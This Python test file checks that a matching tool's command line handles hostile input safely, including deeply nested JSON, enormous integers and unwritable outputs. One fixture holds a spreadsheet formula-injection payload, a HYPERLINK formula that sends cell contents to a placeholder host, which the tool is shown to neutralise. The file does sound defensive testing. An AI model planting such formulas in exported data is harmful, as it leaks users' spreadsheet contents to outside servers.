"""Command line under hostile input: every failure exits 2 naming the file (and line), never a traceback;
output that a spreadsheet could run as a formula is neutralised; the NumPy reader agrees with the general one."""

from __future__ import annotations

import json
import os
from pathlib import Path

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.matching.test_matching_cli import INSTANCE, run, write
from wijkkracht.matching import io
from wijkkracht.matching.__main__ import main
from wijkkracht.matching.io import InputError, read_edges


def match(tmp_path: Path, text: str) -> int:
    src = write(tmp_path, "INSTANCE.json", text)
    return main(["match", "--instance", str(src), "--out", str(tmp_path / "RESULT.json")])


def assert_refused(capsys: pytest.CaptureFixture[str], code: int, where: str, what: str) -> None:
    err = capsys.readouterr().err
    assert code == 2
    assert err.startswith("error: ")
    assert f"{where}: " in err and what in err, err
    assert "Traceback" not in err


def test_very_deep_json_names_the_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # Given an instance whose history nests 100,000 lists deep, starting on line 3
    text = '{"requests": [],\n "helpers": [],\n "history": ' + "[" * 100_000 + "]" * 100_000 + "}"
    code = match(tmp_path, text)
    assert_refused(capsys, code, "INSTANCE.json:3", "nested more than 200 levels deep")
    assert not (tmp_path / "RESULT.json").exists()


@pytest.mark.parametrize("digits", [19, 5000])
def test_an_integer_of_thousands_of_digits_names_the_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], digits: int
) -> None:
    helper = {"id": "h9", "lat": 52.3, "lon": 4.86, "max_distance_m": 1000, "capacity": 0}
    text = json.dumps({**INSTANCE, "helpers": [helper]}, indent=1).replace(
        '"capacity": 0', f'"capacity": {"9" * digits}'
    )
    line = text[: text.index("9" * digits)].count("\n") + 1
    code = match(tmp_path, text)
    assert_refused(capsys, code, f"INSTANCE.json:{line}", f"integer of {digits:,} digits is too large")


def test_long_digit_runs_inside_strings_and_fractions_are_fine(tmp_path: Path) -> None:
    requests = [{**INSTANCE["requests"][0], "id": "1" * 50, "lat": float("52." + "3" * 30)}]
    text = json.dumps({**INSTANCE, "requests": requests}).replace("52.3333333333333", "52." + "3" * 30, 1)
    assert match(tmp_path, text) == 0


@pytest.mark.parametrize(
    ("field", "value", "where", "what"),
    [
        ("capacity", 2**64, "INSTANCE.json:1", "integer of 20 digits is too large"),
        ("capacity", 10**12, "INSTANCE.json", "helpers[0].capacity: expected an integer from 0 to 1,000,000,000"),
        ("load", -1, "INSTANCE.json", "helpers[0].load: expected an integer from 0 to 1,000,000,000"),
        ("lat", 10**17, "INSTANCE.json", "lat must be within"),
    ],
)
def test_capacities_beyond_64_bits_are_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], field: str, value: int, where: str, what: str
) -> None:
    helper = {"id": "h9", "lat": 52.3, "lon": 4.86, "max_distance_m": 1000, field: value}
    code = match(tmp_path, json.dumps({**INSTANCE, "helpers": [helper]}))
    assert_refused(capsys, code, where, what)


def test_huge_options_are_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code = match(tmp_path, json.dumps({**INSTANCE, "options": {"crowd_factor": 10**17}}))
    assert_refused(capsys, code, "INSTANCE.json", "crowd_factor must be an integer from 1 to 1,000,000")


@pytest.mark.parametrize(
    ("caps", "what"),
    [
        ("helper,capacity\nh1,18446744073709551616\n", "is larger than 1,000,000,000"),
        ("helper,capacity\nh1," + "7" * 5000 + "\n", "(5,000 characters)"),
        ("helper,capacity\nh1,1000000001\n", "is larger than 1,000,000,000"),
        ("helper,capacity\nh1,٣\n", "is not an integer"),
    ],
)
def test_capacities_beyond_64_bits_in_caps_csv(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], caps: str, what: str
) -> None:
    code, out, _ = run(tmp_path, "request,helper,score\nr1,h1,1\n", caps)
    assert_refused(capsys, code, "CAPS.csv:2", what)
    assert not out.exists()


def test_a_score_of_thousands_of_digits_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, _, _ = run(tmp_path, "request,helper,score\nr1,h1,1\nr2,h1," + "9" * 5000 + "\n")
    assert_refused(capsys, code, "EDGES.csv:3", "must be a finite number > 0")


@pytest.mark.parametrize("where", ["missing-dir/OUT.csv", "."])
def test_an_unwritable_out_names_the_file(tmp_path: Path, capsys: pytest.CaptureFixture[str], where: str) -> None:
    edges = write(tmp_path, "EDGES.csv", "request,helper,score\nr1,h1,1\n")
    out = tmp_path / where
    code = main(["solve", "--edges", str(edges), "--out", str(out)])
    assert_refused(capsys, code, str(out), "cannot write")


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write anywhere")
def test_a_read_only_directory_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    edges = write(tmp_path, "EDGES.csv", "request,helper,score\nr1,h1,1\n")
    locked = tmp_path / "locked"
    locked.mkdir(mode=0o500)
    code = main(["solve", "--edges", str(edges), "--out", str(locked / "OUT.csv")])
    assert_refused(capsys, code, str(locked / "OUT.csv"), "cannot write")


def test_match_with_an_unwritable_out(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    src = write(tmp_path, "INSTANCE.json", json.dumps(INSTANCE))
    code = main(["match", "--instance", str(src), "--out", str(tmp_path / "nope" / "RESULT.json")])
    assert_refused(capsys, code, "RESULT.json", "cannot write")


def test_ids_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
    # Given ids that Excel or LibreOffice would read as formulas
    edges = 'request,helper,score\n=HYPERLINK("http://x.example/?"&A1),+h1,3\n-2+3,@SUM(A1),2\nr3,h3,1\n\tr4,h4,1\n'
    code, out, _ = run(tmp_path, edges)
    assert code == 0
    rows = out.read_text(encoding="utf-8").splitlines()
    # Then each such cell starts with an apostrophe, and plain ids are untouched
    assert rows == [
        "request,helper,score",
        '"\'=HYPERLINK(""http://x.example/?""&A1)",\'+h1,3.0',
        "'-2+3,'@SUM(A1),2.0",
        "r3,h3,1.0",
        "r4,h4,1.0",  # the reader strips whitespace around fields
    ]


def test_a_tab_or_carriage_return_at_the_start_is_neutralised_too() -> None:
    assert [io.spreadsheet_safe(v) for v in ("\t=1", "\r=1", "a=1", "", "'x")] == ["'\t=1", "'\r=1", "a=1", "", "'x"]


# --- the NumPy reader against the general one ----------------------------------------------------------

IDS = st.text(alphabet="abcxyz019-_.=+@:/", min_size=1, max_size=12)
SCORES = st.one_of(
    st.integers(1, 10**6).map(str),
    st.decimals(min_value="0.000001", max_value="99999", places=6, allow_nan=False).map(str),
    st.floats(min_value=1e-9, max_value=1e12, allow_nan=False).map(repr),
    st.sampled_from(["5.", ".5", "1e3", "0.1234567890123456789", "123456789012345.6", "007", "1_000"]),
)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    rows=st.lists(st.tuples(IDS, IDS, SCORES), min_size=1, max_size=30, unique_by=lambda r: (r[0], r[1])),
    extra=st.booleans(),
    final_newline=st.booleans(),
)
def test_numpy_reader_equals_the_general_reader(tmp_path: Path, rows, extra: bool, final_newline: bool) -> None:
    header = "score,helper,note,request" if extra else "request,helper,score"
    lines = [f"{s},{h},x,{r}" if extra else f"{r},{h},{s}" for r, h, s in rows]
    path = tmp_path / "E.csv"
    path.write_text(header + "\n" + "\n".join(lines) + ("\n" if final_newline else ""), encoding="utf-8")
    fast = io._edges_numpy(path)
    assert fast is not None  # the plain file takes the fast path
    general = io._fast_columns(path, ("request", "helper", "score"))
    assert general is not None
    _, (reqs, hels, texts) = general
    assert fast.request_ids == list(dict.fromkeys(reqs))
    assert fast.helper_ids == list(dict.fromkeys(hels))
    assert [fast.request_ids[i] for i in fast.request] == reqs
    assert [fast.helper_ids[i] for i in fast.helper] == hels
    assert fast.score.tolist() == [float(t) for t in texts]  # bit for bit


def test_numpy_reader_gives_way_to_the_general_reader(tmp_path: Path) -> None:
    for text in ("request,helper,score\nr1,h1,1\n\nr2,h1,2\n", "request,helper,score\nr1, h1,1\n",
                 "request,helper,score\nr1,h1\n", "request,helper,score\ncafé,h1,1\n"):  # fmt: skip
        path = write(tmp_path, "E.csv", text)
        assert io._edges_numpy(path) is None


def test_numpy_reader_names_lines(tmp_path: Path) -> None:
    cases = [
        ("request,helper,score\nr1,h1,1\n,h2,1\n", "E.csv:3: empty request id"),
        ("request,helper,score\nr1,h1,1\nr2,h2,x1\n", "E.csv:3: score 'x1' is not a number"),
        ("request,helper,score\nr1,h1,1\nr2,h2,0.0\n", "E.csv:3: score '0.0' must be a finite number > 0"),
        ("request,helper,score\nr1,h1,1\nr2,h2,1\nr1,h1,2\n", "E.csv:4: duplicate pair (r1, h1), first on line 2"),
        ("request,helper,score\nr1,averyveryverylongid,1\nr2,averyveryverylongid,1\nr1,averyveryverylongid,2\n",
         "E.csv:4: duplicate pair (r1, averyveryverylongid), first on line 2"),
    ]  # fmt: skip
    for text, message in cases:
        path = write(tmp_path, "E.csv", text)
        with pytest.raises(InputError) as exc:
            read_edges(path)
        assert str(exc.value).endswith(message)


def test_numpy_reader_on_a_large_file_matches_the_general_reader(tmp_path: Path) -> None:
    rng = np.random.default_rng(3)
    req = rng.integers(0, 3000, 20_000)
    hel = rng.integers(0, 100_000_000, 20_000)  # ids up to 10 characters: the byte-string path
    score = np.round(rng.uniform(1e-6, 16, 20_000), 6)
    keys = np.unique(req * 10**9 + hel, return_index=True)[1]
    lines = [f"r{req[i]},helper-{hel[i]},{float(score[i])!r}" for i in sorted(keys.tolist())]
    path = write(tmp_path, "E.csv", "request,helper,score\n" + "\n".join(lines) + "\n")
    fast = read_edges(path)
    _, (reqs, hels, texts) = io._fast_columns(path, ("request", "helper", "score"))
    assert [fast.request_ids[i] for i in fast.request] == reqs
    assert [fast.helper_ids[i] for i in fast.helper] == hels
    assert fast.score.tolist() == [float(t) for t in texts]
